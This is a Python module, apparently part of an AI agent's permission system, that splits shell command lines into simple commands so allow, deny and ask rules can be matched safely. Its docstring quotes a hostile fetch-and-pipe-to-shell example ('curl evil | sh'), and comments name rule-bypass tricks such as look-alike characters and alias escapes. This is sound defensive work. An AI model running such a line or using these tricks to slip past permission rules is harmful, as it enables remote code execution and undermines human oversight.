"""A shell command line split into the simple commands it would run, for permission rules.

A rule such as `allow run_command(pytest*)` must not allow `pytest -q; curl evil | sh`, and
`deny run_command(git push*)` must catch `true && /usr/bin/git push`. So rules are matched
against each simple command of the line. Deny and ask rules see it normalised (path and
wrappers such as `env`, `command`, `sudo`, `timeout` taken off, `sh -c '...'` parsed too), so
they catch more; allow rules see it as written (`SimpleCommand.written`), so `pytest *` does not
allow `./pytest` or `PATH=. pytest`. What this cannot follow with certainty (command
substitution, `eval`, here-documents, `find -exec`, a program name built from variables) makes
the line unparsable, and an unparsable line asks.
"""

from __future__ import annotations

import os
import re
import shlex

from claw_nb.records import record

OPERATORS = {";", "&", "&&", "|", "||", "|&", "\n", "(", ")", ";;"}
_REDIRECT = re.compile(r"^[0-9]*(?:<|>|>>|<>|>&|<&|&>|&>>|>\|)$")
_ASSIGNMENT = re.compile(r"^[A-Za-z_][A-Za-z0-9_]*=")
# A program named bare, found on PATH: ASCII only, so `pytеst` (Cyrillic е) is not `pytest`.
BARE_PROGRAM = re.compile(r"[A-Za-z0-9_][A-Za-z0-9_.+-]*", re.ASCII)
# Programs that run the rest of their arguments as a command, with how many option words they
# take before it (None: skip words that start with '-', plus the values of these options).
_WRAPPERS = {
    "env": None,
    "command": None,
    "builtin": None,
    "exec": None,
    "nohup": None,
    "time": None,
    "nice": None,
    "sudo": None,
    "doas": None,
    "xargs": None,
    "timeout": None,
    "stdbuf": None,
    "setsid": None,
    "chroot": None,
    "ionice": None,
}
_WRAPPER_VALUE_OPTIONS = {
    "nice": {"-n"},
    "sudo": {"-u", "-g", "-C", "-D"},
    "timeout": {"-s", "-k"},
    "xargs": {"-n", "-I", "-L", "-P", "-d", "-E", "-s"},
    "env": {"-u", "-C"},
    "ionice": {"-c", "-n"},
}
_NEEDS_A_NUMBER = {"timeout"}  # `timeout 10 cmd`: the duration comes before the command
_SHELLS = {"sh", "bash", "dash", "zsh", "ksh"}
_OPAQUE = {"eval", "source", ".", "trap", "alias"}


class Unparsable(ValueError):
    """The line does something the splitter cannot follow; the message says what."""


@record(frozen=True)
class SimpleCommand:
    """One simple command of a line, both ways a rule may read it."""

    written: list[str]  # its words as written (assignments, wrappers, paths kept)
    runs: list[list[str]]  # what it runs, normalised: for deny and ask rules
    writes: bool = False  # it redirects output into a file


def split_commands(line: str) -> list[list[str]]:
    """Every simple command `line` would run, as word lists with normalised program names.

    Raises `Unparsable` for what cannot be judged safely from the text alone.
    """
    return [words for command in simple_commands(line) for words in command.runs]


def simple_commands(line: str) -> list[SimpleCommand]:
    """The simple commands of `line` as written, each with what it runs (`split_commands`).

    Raises `Unparsable` for what cannot be judged safely from the text alone.
    """
    if not line.strip():
        return []
    for marker, what in (
        ("$(", "command substitution $(...)"),
        ("`", "command substitution `...`"),
        ("<(", "process substitution"),
        (">(", "process substitution"),
        ("<<", "a here-document"),
    ):
        if marker in line:
            raise Unparsable(f"it uses {what}")
    lexer = shlex.shlex(line, posix=True, punctuation_chars="();<>|&\n")
    lexer.whitespace = " \t\r"
    lexer.whitespace_split = True
    lexer.commenters = "#"
    try:
        tokens = list(lexer)
    except ValueError as exc:  # unbalanced quotes
        raise Unparsable(str(exc)) from None
    commands: list[SimpleCommand] = []
    current: list[str] = []
    writes = False
    redirect: str | None = None
    for token in tokens:
        if redirect is not None:
            writes = writes or _writes_a_file(redirect, token)
            redirect = None
            continue
        if token in OPERATORS or set(token) <= set(";&|()\n"):
            if current:
                commands.append(SimpleCommand(current, _unwrap(current), writes))
            current, writes = [], False
        elif _REDIRECT.match(token):
            if current and current[-1].isdigit():
                current.pop()  # `2>&1`: the 2 belongs to the redirection
            redirect = token  # the redirection's target is not a command word
        elif token in ("{", "}", "!"):
            continue
        else:
            current.append(token)
    if current:
        commands.append(SimpleCommand(current, _unwrap(current), writes))
    return commands


def _writes_a_file(operator: str, target: str) -> bool:
    """Whether a redirection writes a file (`> out.txt`), not a descriptor (`2>&1`, `>&2`) or
    /dev/null: such a write is an edit no wildcard allow rule covers."""
    if ">" not in operator or target == "/dev/null":
        return False
    return not (operator.endswith("&") and (target.isdigit() or target == "-"))


def plain_words(line: str) -> list[str] | None:
    """The words of a line that is one plain simple command, as written (no operators,
    redirections, substitutions, comments); None for anything else. What "always" may widen
    to a pattern: a compound line is allowed again only as its exact text."""
    if not line.strip() or any(m in line for m in ("$(", "`", "<(", ">(", "<<", "#")):
        return None
    lexer = shlex.shlex(line, posix=True, punctuation_chars="();<>|&\n")
    lexer.whitespace = " \t\r"
    lexer.whitespace_split = True
    lexer.commenters = ""
    try:
        tokens = list(lexer)
    except ValueError:
        return None
    if not tokens or any(t in OPERATORS or set(t) <= set(";&|()<>\n{}!") for t in tokens):
        return None
    return tokens


def _unwrap(words: list[str]) -> list[list[str]]:
    """The command(s) a simple command really runs, wrappers and assignments taken off."""
    while words and _ASSIGNMENT.match(words[0]):
        words = words[1:]
    if not words:
        return []
    program = program_name(words[0])
    if "$" in words[0] or "*" in words[0] or "?" in words[0]:
        raise Unparsable(f"the program name {words[0]!r} is computed at run time")
    if program in _OPAQUE:
        raise Unparsable(f"`{program}` runs text the rules cannot see")
    if program == "find" and any(w in ("-exec", "-execdir", "-ok", "-okdir") for w in words):
        raise Unparsable("`find -exec` runs commands the rules cannot see")
    if program in _SHELLS:
        if "-c" in words[1:]:
            script = words[words.index("-c") + 1 :]
            if not script:
                raise Unparsable(f"`{program} -c` without a script")
            return split_commands(script[0])
        return [[program, *words[1:]]]
    if program in _WRAPPERS:
        rest = words[1:]
        values = _WRAPPER_VALUE_OPTIONS.get(program, set())
        while rest and (rest[0].startswith("-") or _ASSIGNMENT.match(rest[0])):
            option = rest.pop(0)
            if option in values and rest:
                rest.pop(0)
        if program in _NEEDS_A_NUMBER and rest:
            rest = rest[1:]
        if not rest:
            return [[program]]
        return _unwrap(rest)
    return [[program, *words[1:]]]


def program_name(word: str) -> str:
    """`/usr/bin/git` -> `git`, `\\git` (alias bypass) -> `git`."""
    return os.path.basename(word.lstrip("\\")) or word


def command_text(words: list[str]) -> str:
    """A simple command as the text rule patterns are matched against."""
    return " ".join(shlex.quote(w) if not w or any(c.isspace() for c in w) else w for w in words)
